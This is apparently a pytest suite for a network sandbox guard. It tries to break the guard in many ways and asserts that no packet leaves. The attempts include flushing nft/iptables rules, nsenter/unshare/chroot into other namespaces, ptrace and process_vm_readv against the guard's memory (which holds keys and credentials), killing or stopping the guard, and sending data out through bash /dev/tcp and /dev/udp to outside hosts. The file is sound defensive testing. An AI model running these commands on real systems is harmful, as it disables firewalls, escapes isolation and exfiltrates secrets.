"""A program inside tries to undo its guard: the rules, the namespace, the guard's process. After each try it shouts,
and the witness outside must not hear it."""

import os
import signal
import subprocess
import time

import pytest

import guard
import lab
from fixtures import need_root

POLICY = guard.policy(guard.endpoint("v4.example.com"))


@pytest.fixture(scope="module", params=["root", "ordinary"])
def guarded(request, world):
    if request.param == "ordinary":
        need_root()
    bench = guard.Bench(world, request.param)
    with bench.session(policy=POLICY) as made:
        yield made
    bench.close()


# What a command runs to get rid of the guard, then to shout.
SHOUT = (
    f"echo shouted >/dev/udp/{lab.OUTSIDE_V4}/4444; echo shouted >/dev/udp/{lab.OUTSIDE_V6}/4444; "
    f"(echo shouted >/dev/tcp/{lab.OUTSIDE_V4}/4444) & sleep 0.3; kill $! "
)
TRIES = {
    "nft flush": "nft flush ruleset",
    "nft delete": "for t in $(nft list tables | cut -d' ' -f2-); do nft delete table $t; done",
    "iptables": "iptables -t nat -F; iptables -F; iptables -P OUTPUT ACCEPT; ip6tables -t nat -F; ip6tables -F",
    "user namespace": "unshare -Ur nft flush ruleset",
    "user namespace, iptables": "unshare -Ur sh -c 'iptables -t nat -F; ip6tables -t nat -F; iptables -F'",
    "new network namespace": "unshare -Urn sh -c 'ip link set lo up; echo made'",
    "routes": "ip route flush table local; ip route add default dev lo; ip -6 route flush table local",
    "addresses": f"ip addr add {lab.OUTSIDE_V4}/32 dev lo; ip addr flush dev lo",
    "interfaces": "ip link add v0 type veth peer name v1 netns 1; ip link add d0 type dummy; ip link set lo down",
    "tunnel": "ip tuntap add tun0 mode tun; ip link set tun0 up",
    "settings": "echo 1 >/proc/sys/net/ipv4/ip_forward; echo 1 >/proc/sys/net/ipv4/conf/all/route_localnet; "
    "echo 0 >/proc/sys/net/ipv4/conf/lo/forwarding",
    "resolv.conf": f"umount /etc/resolv.conf; echo nameserver {lab.OUTSIDE_V4} >/etc/resolv.conf; "
    "dig +time=1 +tries=1 shouted.example.com TXT",
    "namespaces of others": "for n in /proc/[0-9]*/ns/net; do nsenter --net=$n "
    "bash -c 'echo shouted >/dev/udp/192.0.2.66/4444'; done",
    "namespaces of others, all": "for p in /proc/[0-9]*; do nsenter -t ${p#/proc/} -U -n -m --preserve-credentials "
    "bash -c 'echo shouted >/dev/udp/192.0.2.66/4444'; done",
    "user namespace, then others": "unshare -Ur sh -c 'for n in /proc/[0-9]*/ns/net; do nsenter --net=$n "
    "bash -c \"echo shouted >/dev/udp/192.0.2.66/4444\"; done'",
    "roots of others": "for p in /proc/[0-9]*/root; do ls $p/run/lab >/dev/null && "
    "chroot $p /bin/bash -c 'echo shouted >/dev/udp/192.0.2.66/4444'; done",
    "bpf": "bpftool prog load /dev/null /sys/fs/bpf/x; mount -t bpf bpf /sys/fs/bpf",
    "ping with its file capability": f"ping -c 1 -W 1 -p 73686f75746564 {lab.OUTSIDE_V4}",
    "setuid": "su -s /bin/bash -c 'nft flush ruleset' </dev/null; sudo -n nft flush ruleset",
    "setpriv": "setpriv --ambient-caps +all --inh-caps +all nft flush ruleset; "
    "capsh --caps=all+ep -- -c 'nft flush ruleset'",
}


@pytest.mark.parametrize("what", TRIES)
def test_no_try_to_undo_the_guard_opens_a_way(guarded, world, watch, listeners, what):
    def run(script):
        import subprocess

        done = subprocess.run(["timeout", "20", "bash", "-c", script], capture_output=True, text=True)
        return done.stdout + done.stderr

    said = guarded.do(run, f"{TRIES[what]}\n{SHOUT}")
    assert watch.saw(b"shouted") == [], said
    assert watch.leaks() == [] and listeners.heard == [], said
    assert "shouted" not in repr(world.dns.questions)
    assert guarded.get("v4.example.com")["status"] == 200, "and the guard still guards: " + said


def test_shouting_is_heard_where_no_guard_is(world, watch, listeners):
    subprocess.run(["timeout", "20", "bash", "-c", SHOUT], capture_output=True)
    assert len(watch.saw(b"shouted")) >= 3


def test_setns_into_every_namespace_that_can_be_opened(guarded, world, watch):
    def try_all():
        import ctypes

        libc, entered = ctypes.CDLL(None, use_errno=True), []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for kind in ("user", "net", "mnt", "pid"):
                try:
                    if os.readlink(f"/proc/{pid}/ns/{kind}") == os.readlink(f"/proc/self/ns/{kind}"):
                        continue
                    descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                except OSError:
                    continue
                if os.fork() == 0:
                    os._exit(0 if libc.setns(descriptor, 0) == 0 else 1)
                if os.wait()[1] == 0:
                    entered.append((pid, kind, open(f"/proc/{pid}/cmdline").read()))
                os.close(descriptor)
        return entered

    assert guarded.do(try_all) == []


def test_no_power_over_its_own_network_namespace(guarded, world):
    """A kernel says no to each thing that needs CAP_NET_ADMIN or CAP_NET_RAW there."""

    def powers():
        import fcntl

        had = []
        for name, family, kind, protocol in (
            ("raw", socket.AF_INET, socket.SOCK_RAW, 255),
            ("raw6", socket.AF_INET6, socket.SOCK_RAW, 255),
            ("packet", 17, socket.SOCK_RAW, 0),
        ):
            try:
                socket.socket(family, kind, protocol)
                had.append(name)
            except OSError:
                pass
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
            for name, level, option, value in (
                ("mark", socket.SOL_SOCKET, 36, 1),
                ("transparent", socket.IPPROTO_IP, 19, 1),
                ("force buffer", socket.SOL_SOCKET, 33, 1 << 26),
            ):
                try:
                    stream.setsockopt(level, option, value)
                    had.append(name)
                except OSError:
                    pass
            try:
                fcntl.ioctl(stream, 0x8914, b"lo".ljust(16, b"\0") + b"\0\0" + bytes(22))
                had.append("interface flags")
            except OSError:
                pass
        return had

    assert guarded.do(powers) == []


def test_no_new_privileges_and_no_capabilities_that_matter(guarded, world):
    def status():
        lines = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
        return lines["NoNewPrivs"], int(lines["CapEff"], 16), int(lines["CapBnd"], 16)

    no_new, effective, bounding = guarded.do(status)
    assert no_new == "1"
    forbidden = sum(
        1 << bit for bit in (12, 13, 16, 17, 19, 21, 39)
    )  # NET_ADMIN, NET_RAW, MODULE, RAWIO, PTRACE, SYS_ADMIN, BPF
    assert effective & forbidden == 0 and bounding & forbidden == 0, (hex(effective), hex(bounding))


def test_the_guard_cannot_be_traced_or_read(guarded, world):
    """Its memory holds the CA's key and the credentials."""

    def try_all():
        import ctypes

        libc, could = ctypes.CDLL(None, use_errno=True), []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                if "sallyport" not in os.readlink(f"/proc/{pid}/exe"):
                    continue
            except OSError:
                try:
                    if b"sallyport" not in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")[0]:
                        continue
                except OSError:
                    continue
            if libc.ptrace(16, int(pid), 0, 0) == 0:  # PTRACE_ATTACH
                could.append((pid, "attach"))
            if libc.ptrace(0x4206, int(pid), 0, 0) == 0:  # PTRACE_SEIZE
                could.append((pid, "seize"))
            for name in ("mem", "environ", "maps", "fd/0"):
                try:
                    open(f"/proc/{pid}/{name}", "rb").read(1) if name != "mem" else open(f"/proc/{pid}/mem", "r+b")
                    could.append((pid, name))
                except OSError:
                    pass
            pidfd = libc.syscall(434, int(pid), 0)
            if pidfd >= 0:
                for number in range(64):
                    if libc.syscall(438, pidfd, number, 0) >= 0:  # pidfd_getfd
                        could.append((pid, f"descriptor {number}"))
            buffer = ctypes.create_string_buffer(16)
            vectors = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 16), (ctypes.c_void_p * 2)(0x400000, 16)
            if libc.process_vm_readv(int(pid), vectors[0], 1, vectors[1], 1, 0) > 0:
                could.append((pid, "process_vm_readv"))
        return could

    assert guarded.do(try_all) == []


def test_no_descriptor_of_the_guard_is_inherited(user_bench, world):
    def sockets():
        found = []
        for number in os.listdir("/proc/self/fd"):
            try:
                target = os.readlink(f"/proc/self/fd/{number}")
            except OSError:
                continue
            if int(number) > 2 and not target.startswith(("pipe:", "/proc/")):
                found.append(target)
        return found

    with user_bench.session(policy=POLICY) as session:
        assert session.do(sockets) == []


SURVIVOR = f"""
import os, signal, socket, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        end = time.monotonic() + 3
        while time.monotonic() < end:
            for address in ("{lab.OUTSIDE_V4}", "{lab.OUTSIDE_V6}"):
                family = socket.AF_INET6 if ":" in address else socket.AF_INET
                try:
                    socket.socket(family, socket.SOCK_DGRAM).sendto(b"shouted", (address, 4444))
                except OSError:
                    pass
                try:
                    stream = socket.socket(family, socket.SOCK_STREAM)
                    stream.settimeout(0.2)
                    stream.connect((address, 4444))
                    stream.sendall(b"shouted")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
time.sleep(0.5)
"""


def leave_nobody(process):
    for pid in [p for p in lab.children(os.getpid()) if "shouted" in lab.command_line(p)]:
        os.kill(pid, signal.SIGKILL)


def test_the_guards_death_closes_the_way_and_never_opens_it(user_bench, world, watch, listeners):
    """A daemon of the command that tries without pause, over the moment at which the guard is killed."""
    process = user_bench.start(
        [guard.PYTHON, "-c", SURVIVOR + "\nprint('ready', flush=True)\ntime.sleep(20)"], policy=POLICY
    )
    assert process.stdout.readline() == "ready\n", process.stderr.read()
    process.kill()
    time.sleep(3)
    leave_nobody(process)
    process.communicate()
    assert watch.saw(b"shouted") == [] and watch.leaks() == [] and listeners.heard == []


def test_a_command_that_kills_its_guard_shuts_its_own_way(user_bench, world, watch, listeners):
    """The command may be of the same user as its guard: to kill it gains nothing."""
    code = (
        SURVIVOR
        + """
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    try:
        if "sallyport" in os.readlink(f"/proc/{pid}/exe"):
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
if os.getppid() not in (0, int(os.environ["SALLYPORT_LAB"])):
    os.kill(os.getppid(), signal.SIGKILL)
time.sleep(3)
"""
    )
    process = user_bench.start([guard.PYTHON, "-c", code], policy=POLICY)
    try:
        process.communicate(timeout=20)
    finally:
        process.kill()
        leave_nobody(process)
    assert watch.saw(b"shouted") == [] and watch.leaks() == [] and listeners.heard == []


def test_a_stopped_guard_lets_nothing_out(user_bench, world, watch, listeners):
    with user_bench.session(policy=POLICY) as session:
        assert session.get("v4.example.com")["status"] == 200
        session.process.send_signal(signal.SIGSTOP)

        def shout(address):
            for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                try:
                    stream = socket.socket(socket.AF_INET, kind)
                    stream.settimeout(0.5)
                    stream.connect((address, 4444))
                    stream.send(b"shouted")
                except OSError:
                    pass

        try:
            session.do(shout, lab.OUTSIDE_V4)
            assert watch.saw(b"shouted") == [] and watch.leaks() == [] and listeners.heard == []
        finally:
            session.process.send_signal(signal.SIGCONT)
        assert session.get("v4.example.com")["status"] == 200


def test_the_guards_own_listeners_lead_nowhere(guarded, world, watch, listeners):
    """Found by looking at what listens in the namespace, and dialled by the address of loopback: no open proxy, no
    loop."""

    def dial_them(outside):
        ports = set()
        for name in ("tcp", "tcp6"):
            for line in open(f"/proc/net/{name}").read().splitlines()[1:]:
                fields = line.split()
                if fields[3] == "0A":
                    ports.add(int(fields[1].split(":")[1], 16))
        answers = []
        for port in ports:
            for address in ("127.0.0.1", "::1", "127.0.0.2"):
                for request in (
                    b"GET http://v4.example.com/echo HTTP/1.1\r\nHost: v4.example.com\r\nConnection: close\r\n\r\n",
                    b"CONNECT %s:4444 HTTP/1.1\r\nHost: %s:4444\r\n\r\nshouted" % (outside, outside),
                    b"\x05\x01\x00\x05\x01\x00\x01\xc0\x00\x02\x42\x11\x5cshouted",
                ):
                    try:
                        stream = socket.create_connection((address, port), 3)
                        stream.sendall(request)
                        answers.append(read_all(stream)[0][:40])
                    except OSError:
                        pass
                try:
                    stream = connect("v4.example.com", port=port, address=address, timeout=3)
                    stream.sendall(
                        b"GET /through-the-listener HTTP/1.1\r\nHost: v4.example.com\r\nConnection: close\r\n\r\n"
                    )
                    answers.append(read_all(stream)[0][:40])
                except (OSError, ValueError):
                    pass
        return sorted(ports), answers

    world.forget()
    ports, answers = guarded.do(dial_them, lab.OUTSIDE_V4.encode())
    assert ports, "the guard listens somewhere in here"
    assert not world.requests(), answers
    assert watch.saw(b"shouted") == [] and watch.leaks() == [] and listeners.heard == []
    assert not any(b" 200 " in answer for answer in answers)


def test_the_redirected_port_as_destination_is_no_loop(guarded, world, watch):
    """Dialling an outside address on the guard's own port must not make the guard call itself."""

    def dial_out(address):
        for name in ("tcp", "tcp6"):
            for line in open(f"/proc/net/{name}").read().splitlines()[1:]:
                if line.split()[3] == "0A":
                    get("v4.example.com", "/x", port=int(line.split()[1].split(":")[1], 16), address=address, timeout=3)

    guarded.do(dial_out, lab.OUTSIDE_V4)
    assert watch.leaks() == [] and guarded.get("v4.example.com")["status"] == 200


def test_a_flood_of_descriptors_and_forks_does_not_open_the_way(user_bench, world, watch, listeners):
    """When the guard can take no more, connections wait or fail; they do not go past it."""

    def flood(address):
        held = []
        for _ in range(600):
            stream = socket.socket()
            stream.setblocking(False)
            try:
                stream.connect((address, 4444))
            except OSError:
                pass
            held.append(stream)
        time.sleep(0.5)
        for stream in held:
            try:
                stream.send(b"shouted")
            except OSError:
                pass
        time.sleep(0.5)

    def limited():
        import resource

        resource.setrlimit(resource.RLIMIT_NOFILE, (200, 2048))

    def raise_own_limit():
        import resource

        resource.setrlimit(resource.RLIMIT_NOFILE, (2048, 2048))

    with user_bench.session(policy=POLICY, preexec_fn=limited) as session:
        session.do(raise_own_limit)
        session.do(flood, lab.OUTSIDE_V4)
        assert watch.saw(b"shouted") == [] and watch.leaks() == [] and listeners.heard == []
